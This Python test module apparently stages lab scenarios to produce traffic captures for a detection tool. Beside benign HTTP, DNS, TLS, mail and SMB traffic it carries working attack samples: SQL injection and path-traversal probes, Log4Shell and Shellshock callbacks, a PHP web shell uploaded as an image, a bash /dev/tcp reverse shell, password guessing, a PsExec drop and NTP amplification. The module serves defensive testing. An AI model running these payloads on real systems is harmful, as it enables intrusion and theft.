"""What happens on the wire: one function per scenario, a play of real programs in the lab.

A play starts the servers it needs and runs its clients to their end; scenarios.py says which capture it makes and what
must be found in it.
"""

from __future__ import annotations

from tests.traffic import services
from tests.traffic.lab import Lab

ATTACKER, OUT_CLIENT, OUT_WEB, OUT_DNS = "198.51.100.66", "198.51.100.20", "198.51.100.80", "198.51.100.53"
DESK, WEB, FILES = "192.0.2.20", "192.0.2.80", "192.0.2.139"
ATTACKER6, WEB6, DESK6, OUT_WEB6 = "2001:db8:2::66", "2001:db8:1::80", "2001:db8:1::20", "2001:db8:2::80"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def curl(lab: Lab, side: str, source: str, *arguments: str, agent: str = BROWSER) -> str:
    """One curl call, with a browser's name unless told otherwise; any HTTP status will do."""
    return lab.run(
        side, "curl", "-sS", "--max-time", "10", "--interface", source, "--noproxy", "*", "-A", agent, *arguments
    )


def http_benign(lab: Lab) -> None:
    """Pages plain, gzipped (then in chunks), kept alive; a form, a HEAD, a range, a missing page, a picture."""
    for side, source, host in (("home", DESK, OUT_WEB), ("outside", OUT_CLIENT, WEB)):
        services.nginx(lab, "outside" if side == "home" else "home")
        site = f"http://{host}"
        curl(lab, side, source, f"{site}/", f"{site}/data.json", f"{site}/missing.html")
        curl(lab, side, source, "--compressed", f"{site}/news.html", f"{site}/data.json")
        curl(
            lab,
            side,
            source,
            "-d",
            "name=A.+Reader&subject=please+select+a+seat+from+row+4&text=one+or+two",
            f"{site}/form",
        )
        curl(lab, side, source, "-I", f"{site}/news.html")
        curl(lab, side, source, "-r", "100-299", f"{site}/news.html")
        curl(lab, side, source, "-o", "/dev/null", f"{site}/plain/picture.bin")
        curl(
            lab,
            side,
            source,
            "-G",
            "--data-urlencode",
            "q=union station, where to order by phone",
            f"{site}/index.html",
        )


PROBES = (
    "/item?id=1%27%20OR%20%271%27=%271",
    "/item?id=-1+UNION+ALL+SELECT+1,user(),3--+-",
    "/item?id=1%20AND%20SLEEP(5)",
    "/item?id=1;SELECT%20table_name%20FROM%20information_schema.tables",
    "/../../../../etc/passwd",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/item?file=../../../../etc/shadow",
    "/cgi-bin/test-cgi",
    "/cgi-bin/status.sh",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/wp-login.php",
    "/item?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/nice%20ports%2C/Tri%6Eity.txt%2ebak",
    "/item?host=127.0.0.1;cat%20/etc/passwd",
)


def http_probe(lab: Lab) -> None:
    """A list of probes such as scanners carry, then Log4Shell and Shellshock in the user agent."""
    services.nginx(lab, "home")
    for probe in PROBES:
        curl(lab, "outside", ATTACKER, "--path-as-is", f"http://{WEB}{probe}")
    curl(lab, "outside", ATTACKER, f"http://{WEB}/", agent="${jndi:ldap://198.51.100.66:1389/a}")
    curl(lab, "outside", ATTACKER, f"http://{WEB}/cgi-bin/status", agent="() { :;}; /bin/ping -c 1 198.51.100.66")
    curl(lab, "outside", ATTACKER, f"http://{WEB}/", agent="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")


def sqlmap(lab: Lab) -> None:
    """sqlmap looks for an injection with UNION and boolean tests; nothing is there to be found."""
    services.nginx(lab, "home")
    lab.run(
        "outside",
        "sqlmap",
        "--batch",
        "--disable-coloring",
        "-u",
        f"http://{WEB}/item?id=1",
        "-p",
        "id",
        "--technique",
        "U",
        "--union-cols",
        "1-2",
        "--skip-waf",
        "--timeout",
        "5",
        "--flush-session",
        "--ignore-proxy",
        "--output-dir",
        str(lab.scratch / "sqlmap"),
    )


def login_guessing(lab: Lab) -> None:
    """Twenty wrong passwords against one login form within seconds."""
    services.nginx(lab, "home")
    for number in range(20):
        curl(lab, "outside", ATTACKER, "-d", f"user=admin&password=guess{number}", f"http://{WEB}/login")


def web_shell(lab: Lab) -> None:
    """A PHP shell is uploaded, then called, and its answer shows who it runs as."""
    services.nginx(lab, "home")
    upload = lab.scratch / "img.php"
    upload.write_text("<?php echo '<pre>'; system($_POST['cmd']); ?>\n")
    curl(lab, "outside", ATTACKER, "-F", f"picture=@{upload};type=image/png", f"http://{WEB}/form")
    curl(lab, "outside", ATTACKER, "-d", "cmd=id", f"http://{WEB}/uploads/img.php")


def program_download(lab: Lab) -> None:
    """A Windows program fetched plain and once more gzipped by the server under another name."""
    services.nginx(lab, "outside")
    curl(lab, "home", DESK, "-o", "/dev/null", f"http://{OUT_WEB}/plain/setup.exe")
    curl(lab, "home", DESK, "--compressed", "-o", "/dev/null", f"http://{OUT_WEB}/tool.exe")


def dig(lab: Lab, *question: str) -> None:
    """One question from the desk to the resolver outside."""
    lab.run("home", "dig", "-b", DESK, f"@{OUT_DNS}", "+tries=1", "+time=5", "+nocookie", *question)


def dns_benign(lab: Lab) -> None:
    """Everyday questions over UDP and TCP, and a large answer that arrives in IP fragments."""
    services.unbound(lab, "outside", OUT_DNS)
    for question in (
        ("www.example.com", "A"),
        ("www.example.com", "AAAA"),
        ("example.org", "MX"),
        ("mail.example.org", "A"),
        ("no-such-host.example.com", "A"),
        ("www.example.com", "A", "+tcp"),
    ):
        dig(lab, *question)
    dig(lab, "large.example.net", "TXT", "+bufsize=4096", "+ignore")


def dns_suspect(lab: Lab) -> None:
    """Names a tunnel makes, names an algorithm makes, a hidden service's name, a mining pool's."""
    services.unbound(lab, "outside", OUT_DNS)
    label = "mzxw6ytboi4tqnrqgezdgnbvgy3tqojqmfrggzdfmztwq2lknnwg23tp"
    for number in range(6):
        dig(lab, f"{number}{label}.{label[::-1]}.t.example.net", "TXT")
    for name in ("x7q2kd93jf8wz1bv5m.example", "k4j9q0zx3w7vbt2n8h.example"):
        dig(lab, name, "A")
    dig(lab, "expyuzz4wqqyqhjnexample2zq6w3x4yqkqkzz3xyz7abcdefghij234.onion", "A")
    dig(lab, "xmr.pool.example.com", "A")


def tls_benign(lab: Lab) -> None:
    """openssl s_client reads a page from s_server, once over TLS 1.3 and once over 1.2."""
    services.tls_server(lab, "outside", "/CN=www.example.com")
    for version in ("-tls1_3", "-tls1_2"):
        lab.run(
            "home",
            "openssl",
            "s_client",
            "-connect",
            f"{OUT_WEB}:443",
            "-bind",
            f"{DESK}:0",
            "-servername",
            "www.example.com",
            "-ign_eof",
            version,
            stdin="GET / HTTP/1.0\r\n\r\n",
        )


def tls_default_subject(lab: Lab) -> None:
    """The server's certificate has the organisation that openssl proposes when nobody types one."""
    services.tls_server(lab, "outside", "/C=AU/ST=Some-State/O=Internet Widgits Pty Ltd")
    lab.run(
        "home",
        "openssl",
        "s_client",
        "-connect",
        f"{OUT_WEB}:443",
        "-bind",
        f"{DESK}:0",
        "-ign_eof",
        "-tls1_2",
        stdin="GET / HTTP/1.0\r\n\r\n",
    )


def port_scan(lab: Lab) -> None:
    """nmap: a SYN scan of 200 ports, then what serves on port 80."""
    services.nginx(lab, "home")
    lab.run("outside", "nmap", "-n", "-Pn", "-sS", "-S", ATTACKER, "-e", "wire", "--top-ports", "200", "-r", "-T4", WEB)
    lab.run("outside", "nmap", "-n", "-Pn", "-sV", "-p", "80", WEB)
    lab.run("outside", "nmap", "-n", "-Pn", "--script", "http-title,http-methods", "-p", "80", WEB)


def swaks(lab: Lab, *arguments: str) -> None:
    """One mail from the desk to the sink outside."""
    lab.run(
        "home",
        "swaks",
        "--server",
        OUT_WEB,
        "--port",
        "25",
        "--local-interface",
        DESK,
        "--helo",
        "desk.example.com",
        "--from",
        "reader@example.com",
        "--to",
        "desk@example.org",
        "--header",
        "Date: Thu, 01 Jan 2026 00:00:00 +0000",
        "--header",
        "Message-Id: <1@example.com>",
        *arguments,
    )


def mail_benign(lab: Lab) -> None:
    """A short letter, and one with a PDF's name on its attachment."""
    services.sink(lab, "outside", "smtp", 25)
    swaks(lab, "--body", services.prose(60, 7))
    report = lab.scratch / "report.pdf"
    report.write_bytes(b"%PDF-1.4\n" + services.prose(60, 8).encode())
    swaks(lab, "--body", "see attachment", "--attach-type", "application/pdf", "--attach", f"@{report}")


def mail_double_extension(lab: Lab) -> None:
    """An attachment that calls itself a PDF and is a program."""
    services.sink(lab, "outside", "smtp", 25)
    invoice = lab.scratch / "invoice.pdf.exe"
    invoice.write_bytes(services.portable_executable(2000, 9))
    swaks(lab, "--body", "see attachment", "--attach-type", "application/octet-stream", "--attach", f"@{invoice}")


def smb(lab: Lab, command: str) -> None:
    """One smbclient call from outside as a guest."""
    lab.run(
        "outside",
        "smbclient",
        f"//{FILES}/share",
        "-N",
        "-m",
        "SMB3",
        "--option=netbios name=OUTSIDE",
        "--option=workgroup=HOME",
        "-c",
        command,
    )


def smb_benign(lab: Lab) -> None:
    """A listing and a file read from the share."""
    services.samba(lab, "home")
    smb(lab, f"ls; get minutes.txt {lab.scratch}/got.txt")


def smb_remote_service(lab: Lab) -> None:
    """The service program of a well-known remote execution tool is put on the share."""
    services.samba(lab, "home")
    program = lab.scratch / "service.bin"
    program.write_bytes(services.portable_executable(3000, 10))
    smb(lab, f"put {program} PSEXESVC.exe")


def reverse_shell(lab: Lab) -> None:
    """A shell at home calls out, is asked `id`, and answers over the bare connection."""
    services.sink(lab, "outside", "shell-master", 4444)
    script = f"exec 3<>/dev/tcp/{ATTACKER}/4444; while read -r line <&3; do [ $line = exit ] && break; $line >&3; done"
    lab.run("home", "bash", "-c", script)


def mining(lab: Lab) -> None:
    """A miner logs in to its pool, first as Monero miners do, then as Bitcoin miners do."""
    services.sink(lab, "outside", "pool", 3333)
    lines = (
        '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"wallet","pass":"x","agent":"miner/1.0"}}',
        '{"id":2,"method":"mining.subscribe","params":["miner/1.0"]}',
    )
    for line in lines:
        lab.run(
            "home", "bash", "-c", f"exec 3<>/dev/tcp/{OUT_WEB}/3333; printf '%s\\n' '{line}' >&3; read -r answer <&3"
        )


def fragments(lab: Lab) -> None:
    """Pings of 1,300 bytes in fragments of 512: one with harmless text, one that carries a remote shell's greeting."""
    for source, text in (
        (OUT_CLIENT, services.prose(40, 11)),
        (ATTACKER, "SSH-2.0-OpenSSH_9.2 " + services.prose(38, 12)),
    ):
        content = (text + " ").ljust(1300, ".")
        lab.run(
            "outside",
            "nping",
            "--quiet",
            "--icmp",
            "-c",
            "1",
            "-S",
            source,
            "-e",
            "wire",
            "--mtu",
            "512",
            "--data-string",
            content,
            WEB,
        )


def amplification(lab: Lab) -> None:
    """NTP's monlist request, which reflectors are abused with, three times."""
    lab.run(
        "outside",
        "nping",
        "--quiet",
        "--udp",
        "-c",
        "3",
        "--delay",
        "20ms",
        "-S",
        ATTACKER,
        "-g",
        "40123",
        "-p",
        "123",
        "-e",
        "wire",
        "--data",
        "1700032a00000000",
        WEB,
    )


def ipv6(lab: Lab) -> None:
    """A page, then a traversal and an injection, over IPv6."""
    services.nginx(lab, "home")
    site = f"http://[{WEB6}]"
    curl(lab, "outside", ATTACKER6, f"{site}/news.html")
    curl(lab, "outside", ATTACKER6, "--path-as-is", f"{site}/../../../../etc/passwd")
    curl(lab, "outside", ATTACKER6, f"{site}/item?id=-1+UNION+ALL+SELECT+1,user(),3--+-")


def vlan(lab: Lab) -> None:
    """A page, then Log4Shell in the user agent; the recorder tags the frames."""
    services.nginx(lab, "home")
    curl(lab, "outside", OUT_CLIENT, f"http://{WEB}/")
    curl(lab, "outside", ATTACKER, f"http://{WEB}/", agent="${jndi:ldap://198.51.100.66:1389/a}")
